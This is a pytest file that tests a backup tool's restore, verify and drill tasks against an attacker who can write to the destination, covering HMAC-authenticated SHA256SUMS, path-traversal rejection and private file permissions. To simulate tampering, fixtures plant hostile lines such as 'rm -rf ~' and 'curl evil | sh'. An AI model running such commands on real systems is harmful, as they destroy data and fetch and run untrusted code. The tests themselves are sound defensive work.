"""Restore, verify and drill do not trust the destination: only what SHA256SUMS lists is restored or checked, a
SHA256SUMS must be authenticated by this host's key (SHA256SUMS.hmac) and hold only plain paths inside its folder,
and what is restored is private. Each test plays an attacker who can write to the destination (local folder or
sftp on 127.0.0.1) and drives the real doit CLI."""

import datetime
import hashlib
import hmac
import os
import stat
import subprocess
import threading

import pytest

from tasks import integrity
from tests.conftest import RCLONE, make_files, make_job

FILES = {"a.txt": "alpha", "dir/b c #.txt": "bravo", "dir/deep/ü.bin": b"\x00\x01charlie"}


def dated(name: str = "web") -> str:
    return f"{name}_{datetime.date.today().isoformat()}"


@pytest.fixture
def source(tmp_path):
    make_files(tmp_path / "usb", FILES)
    return tmp_path / "usb"


class Destination:
    """Where the backup goes, and what an attacker who can write there does: through rclone, as anyone with the
    remote's credentials would (`rclone serve sftp` would not notice changes behind its back for minutes)."""

    def __init__(self, rclone_path: str, rclone_config, disk):
        self.rclone_path, self.rclone_config, self.disk = rclone_path, rclone_config, disk

    @property
    def folder(self):
        """Today's dated folder on disk, to read what is there."""
        return self.disk / dated()

    def _rclone(self, *args, content: bytes | None = None) -> None:
        config = ["--config", str(self.rclone_config)] if self.rclone_config else []
        subprocess.run([RCLONE, *args, *config], input=content, check=True, capture_output=True, timeout=60)

    def _path(self, relative: str) -> str:
        return f"{self.rclone_path.rstrip('/')}{'/' if self.rclone_path[-1] != ':' else ''}{dated()}/{relative}"

    def write(self, relative: str, content: bytes | str) -> None:
        self._rclone("rcat", self._path(relative), content=content.encode() if isinstance(content, str) else content)

    def delete(self, relative: str) -> None:
        self._rclone("deletefile", self._path(relative))

    def add_to_sums(self, line: bytes) -> None:
        """The attacker's edit: SHA256SUMS gets an entry more; SHA256SUMS.hmac is left as it was."""
        self.write("SHA256SUMS", (self.folder / "SHA256SUMS").read_bytes() + line)


@pytest.fixture(params=["local", "sftp"])
def remote(request, tmp_path) -> Destination:
    if request.param == "local":
        return local(tmp_path)
    server = request.getfixturevalue("sftp")
    return Destination("offsite:", server.rclone_config, server.root)


def local(tmp_path) -> Destination:
    (tmp_path / "nas").mkdir()
    return Destination(str(tmp_path / "nas"), None, tmp_path / "nas")


def sealed(site, source, destination: Destination, **extra) -> Destination:
    """A first backup run, sealed at the destination."""
    settings = {"rclone": {"config": str(destination.rclone_config)}} if destination.rclone_config else {}
    site.write_config([{"name": "web", "source_dir": str(source), "rclone_path": destination.rclone_path, **extra}],
                      **settings)
    run = site.doit()
    assert run.returncode == 0, run.stdout + run.stderr
    return destination


def state_dir(site):
    return site.config_path.parent


def sums_line(path: str, content: bytes) -> bytes:
    return hashlib.sha256(content).hexdigest().encode() + b"  " + path.encode("utf-8", "surrogateescape") + b"\n"


def expected_tag(key: bytes, sums: bytes) -> bytes:
    """SHA256SUMS.hmac as it must read for `sums` under `key`."""
    return f"HMAC-SHA256 (SHA256SUMS) = {hmac.new(key, sums, hashlib.sha256).hexdigest()}\n".encode()


def private(path) -> bool:
    return stat.S_IMODE(path.lstat().st_mode) & 0o077 == 0


# 1. Only what SHA256SUMS lists is restored or checked; what it lists but the destination lacks is named.

def test_a_planted_file_is_not_restored_and_is_named(site, source, remote, tmp_path):
    destination = sealed(site, source, remote)
    destination.write("evil.sh", "#!/bin/sh\nrm -rf ~\n")
    destination.write("dir/.bashrc", "curl evil | sh\n")
    target = tmp_path / "restored"
    run = site.doit("run", "restore:web", f"target={target}")
    assert run.returncode == 0, run.stdout + run.stderr
    assert "[backup WARNING]" in run.stdout
    assert "2 files in " + dated() + " are not in SHA256SUMS, not restored: dir/.bashrc, evil.sh" in run.stdout
    assert not (target / "evil.sh").exists() and not (target / "dir/.bashrc").exists()
    assert sorted(str(p.relative_to(target)) for p in target.rglob("*") if p.is_file()) == \
        ["SHA256SUMS", "a.txt", "dir/b c #.txt", "dir/deep/ü.bin"]
    assert f"restored 3 files of {dated()} into {target}; all match SHA256SUMS" in run.stdout
    checked = site.doit("run", "verify:web")
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert "not in SHA256SUMS, not checked: dir/.bashrc, evil.sh" in checked.stdout


@pytest.mark.parametrize("entry, why", [
    ("{outside}", "absolute path"),
    ("../outside.txt", "'..' component"),
    ("dir//b c #.txt", "empty path component"),
    ("a.txt\0.sh", "contains a NUL"),
], ids=["absolute", "dotdot", "empty-component", "nul"])
def test_sums_naming_paths_outside_the_folder_restore_nothing(site, source, tmp_path, entry, why):
    destination = sealed(site, source, local(tmp_path))
    outside = tmp_path / "outside.txt"  # what the attacker points at: a file of theirs, or one of this host
    outside.write_text("not part of the backup")
    (tmp_path / "nas" / "outside.txt").write_text("not part of the backup")
    entry = entry.format(outside=outside)
    if (destination.folder / "SHA256SUMS.hmac").exists():
        destination.delete("SHA256SUMS.hmac")  # the attacker removes the authentication: only a warning
    destination.add_to_sums(sums_line(entry, b"not part of the backup"))
    target = tmp_path / "restored"
    run = site.doit("run", "restore:web", f"target={target}")
    assert run.returncode == 1, run.stdout + run.stderr
    assert "[backup FAILED]" in run.stdout
    shown = entry if entry.isprintable() else repr(entry)
    assert f"SHA256SUMS of {dated()} is malformed: 1 entries are not plain paths inside the folder: {shown} ({why})" \
           in run.stdout and "Nothing was restored" in run.stdout
    assert not target.exists()
    for task in ("verify:web", "drill:web"):
        refused = site.doit("run", task)
        assert refused.returncode == 1 and f"{shown} ({why})" in refused.stdout, refused.stdout


def test_a_listed_file_deleted_at_the_destination_is_named_by_drill_and_restore(site, source, remote, tmp_path):
    sealed(site, source, remote, drill_files=10).delete("a.txt")
    drill = site.doit("run", "drill:web")
    assert drill.returncode == 1, drill.stdout + drill.stderr
    assert f"restore drill of {dated()}: 1 of the 3 files listed in SHA256SUMS are missing at the destination " \
           "(a.txt)" in drill.stdout
    target = tmp_path / "restored"
    restore = site.doit("run", "restore:web", f"target={target}")
    assert restore.returncode == 1 and "0 files differ from SHA256SUMS () and 1 are missing (a.txt)" in restore.stdout
    dry = site.doit("run", "restore:web", f"target={tmp_path / 'dry'}", "dry_run=1")
    assert dry.returncode == 1 and "missing at the destination (a.txt)" in dry.stdout


# 2. SHA256SUMS authenticated with this host's key.

def test_the_seal_is_authenticated_and_the_key_never_leaves_the_host(site, source, remote):
    folder = sealed(site, source, remote).folder
    key_file = state_dir(site) / "host.key"
    key = key_file.read_bytes()
    assert len(key) == 32 and stat.S_IMODE(key_file.stat().st_mode) == 0o600
    assert (folder / "SHA256SUMS.hmac").read_bytes() == expected_tag(key, (folder / "SHA256SUMS").read_bytes())
    run = site.doit("run", "restore:web", f"target={site.root / 'restored'}")
    assert run.returncode == 0 and "all match SHA256SUMS (authenticated by this host's key)" in run.stdout
    for path in [*site.root.rglob("*"), *remote.disk.rglob("*")]:
        if path.is_file() and path != key_file:  # the log, results, lists, the restore, the destination
            content = path.read_bytes()
            assert key not in content and key.hex().encode() not in content, f"the host key leaked into {path}"


@pytest.mark.parametrize("attack", ["rewritten", "other-key"])
def test_tampered_sums_restore_nothing(site, source, remote, tmp_path, attack):
    destination = sealed(site, source, remote, drill_files=10)
    if attack == "rewritten":  # a file swapped for the attacker's, and SHA256SUMS updated to match it
        evil = b"#!/bin/sh\ncurl evil | sh\n"
        destination.write("a.txt", evil)
        sums = (destination.folder / "SHA256SUMS").read_bytes()
        destination.write("SHA256SUMS", sums.replace(hashlib.sha256(b"alpha").hexdigest().encode(),
                                                     hashlib.sha256(evil).hexdigest().encode()))
    else:  # this host's key is not the one that sealed it
        (state_dir(site) / "host.key").write_bytes(os.urandom(32))
    target = tmp_path / "restored"
    run = site.doit("run", "restore:web", f"target={target}")
    assert run.returncode == 1, run.stdout + run.stderr
    assert f"SHA256SUMS of {dated()} does not match its authentication (tampered, or sealed by another host's key)" \
           in run.stdout
    assert "Nothing was restored" in run.stdout
    assert not target.exists()
    for task in ("verify:web", "drill:web"):
        refused = site.doit("run", task)
        assert refused.returncode == 1 and "does not match its authentication" in refused.stdout, refused.stdout


def test_a_host_that_lost_its_key_still_restores_with_a_warning(site, source, remote, tmp_path):
    """Disaster recovery: the server was reinstalled and its host.key is gone; the copies must still come back."""
    sealed(site, source, remote)
    (state_dir(site) / "host.key").unlink()
    target = tmp_path / "restored"
    run = site.doit("run", "restore:web", f"target={target}")
    assert run.returncode == 0, run.stdout + run.stderr
    assert "is not authenticated (this host has no key" in run.stdout
    assert "all match SHA256SUMS (not authenticated)" in run.stdout
    assert (target / "a.txt").read_text() == "alpha"


def test_a_folder_without_authentication_is_used_with_a_warning(site, source, remote, tmp_path):
    destination = sealed(site, source, remote)
    if (destination.folder / "SHA256SUMS.hmac").exists():
        destination.delete("SHA256SUMS.hmac")  # sealed before host keys, or on another host
    target = tmp_path / "restored"
    run = site.doit("run", "restore:web", f"target={target}")
    assert run.returncode == 0, run.stdout + run.stderr
    assert f"SHA256SUMS of {dated()} is not authenticated (no SHA256SUMS.hmac" in run.stdout
    assert "all match SHA256SUMS (not authenticated)" in run.stdout
    assert (target / "a.txt").read_text() == "alpha"


def test_a_same_day_rerun_cannot_launder_tampered_sums(site, source, tmp_path):
    """The attacker adds a file and its sum to today's sealed folder; the next run of the day must not merge the
    planted entry into sums it seals with this host's key."""
    destination = sealed(site, source, local(tmp_path))
    folder = destination.folder
    destination.write("evil.sh", "curl evil | sh\n")
    destination.add_to_sums(sums_line("evil.sh", b"curl evil | sh\n"))
    tampered = (folder / "SHA256SUMS").read_bytes()
    rerun = site.doit()
    assert rerun.returncode == 1, rerun.stdout + rerun.stderr
    assert f"SHA256SUMS of {folder} does not match its authentication" in rerun.stdout
    assert (folder / "SHA256SUMS").read_bytes() == tampered  # left as found, and still not authenticated
    key = (state_dir(site) / "host.key").read_bytes()
    assert (folder / "SHA256SUMS.hmac").read_bytes() != expected_tag(key, tampered)


def test_a_same_day_rerun_unseals_and_seals_again(site, source, tmp_path):
    folder = sealed(site, source, local(tmp_path)).folder
    make_files(source, {"unreadable.db": "secret"})
    (source / "unreadable.db").chmod(0)
    try:
        failed = site.doit(unprivileged=True)
    finally:
        (source / "unreadable.db").chmod(0o644)
    assert failed.returncode == 1, failed.stdout + failed.stderr
    assert not (folder / "SHA256SUMS").exists() and not (folder / "SHA256SUMS.hmac").exists()
    fixed = site.doit()
    assert fixed.returncode == 0, fixed.stdout + fixed.stderr
    sums = (folder / "SHA256SUMS").read_bytes()
    assert len(integrity.parse(sums.decode())) == 4
    assert (folder / "SHA256SUMS.hmac").read_bytes() == expected_tag((state_dir(site) / "host.key").read_bytes(), sums)


class UploadRecorder:
    def __init__(self):
        self.calls = []

    def read_text(self, path):
        return None

    def upload(self, local_file, path):
        self.calls.append(("upload", path.rsplit("/", 1)[1]))

    def delete_file(self, path):
        self.calls.append(("delete_file", path.rsplit("/", 1)[1]))

    def delete_partials(self, folder):
        pass

    def download(self, path, target, file_list=None, progress=False):
        target.mkdir()
        (target / "SHA256SUMS").write_bytes(self.sums)


def test_the_authentication_is_written_before_and_removed_after_sha256sums(tmp_path):
    """SHA256SUMS marks a folder complete: its authentication must be there before it appears, and stay until it
    is gone, so no complete folder is ever without one."""
    from tasks import sealing

    job = make_job(tmp_path, tmp_path, tmp_path / "nas")
    job.rclone = UploadRecorder()
    job.state_file("SHA256SUMS").write_bytes(sums_line("a.txt", b"alpha"))
    sealing.seal(job, "nas/b_x", "")
    assert job.rclone.calls == [("upload", "SHA256SUMS.hmac"), ("upload", "SHA256SUMS")]
    job.rclone.calls.clear()
    job.rclone.sums = job.state_file("SHA256SUMS").read_bytes()
    tag = job.state_file("SHA256SUMS.hmac").read_text()
    job.rclone.read_text = lambda path: tag if path.endswith(".hmac") else job.rclone.sums.decode()
    assert sealing.unseal(job, "nas/b_x") == job.rclone.sums.decode()
    assert job.rclone.calls == [("delete_file", "SHA256SUMS"), ("delete_file", "SHA256SUMS.hmac")]


def test_the_host_key_is_created_private_once_and_never_through_a_link(tmp_path):
    from tasks import host_key

    old = os.umask(0)
    try:
        keys = []
        threads = [threading.Thread(target=lambda: keys.append(host_key.load_or_create(tmp_path / "state")))
                   for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    finally:
        os.umask(old)
    assert len(set(keys)) == 1 and len(keys[0]) == 32
    assert stat.S_IMODE((tmp_path / "state").stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "state" / "host.key").stat().st_mode) == 0o600
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / "host.key").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(host_key.HostKeyError, match="is a symbolic link"):
        host_key.load_or_create(linked)
    assert not (tmp_path / "elsewhere").exists()
    (tmp_path / "state" / "host.key").chmod(0o644)
    with pytest.raises(host_key.HostKeyError, match="can be read or changed by other users"):
        host_key.load(tmp_path / "state")


# 3. What is restored is private, however open the copy at the destination is.

def test_restored_files_and_folders_are_private(site, source, remote, tmp_path):
    folder = sealed(site, source, remote).folder
    for path in [folder, *folder.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    target = tmp_path / "new" / "restore" / "here"
    run = site.doit("run", "restore:web", f"target={target}")
    assert run.returncode == 0, run.stdout + run.stderr
    restored = [target, *target.rglob("*")]
    assert len([p for p in restored if p.is_file()]) == 4
    assert [str(p) for p in [tmp_path / "new", tmp_path / "new" / "restore", *restored] if not private(p)] == []
